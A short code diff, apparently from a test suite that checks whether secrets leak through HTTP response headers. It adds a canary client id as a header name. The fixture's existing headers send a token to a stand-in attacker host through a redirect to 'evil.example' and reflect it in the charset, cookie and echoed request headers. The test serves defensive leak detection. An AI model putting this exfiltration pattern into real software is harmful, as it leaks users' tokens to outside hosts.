@@ -111,6 +111,7 @@ const echoingHeaders =
           location: `https://evil.example/?token=${token}`,
           "content-type": `text/plain; charset=${token}`,
           "set-cookie": `token=${token}`,
+          [`x-${canaries.clientId}`]: "a secret is in the name",
           "x-all": everythingIn(request).slice(0, 4000)
         },
         body: "text"
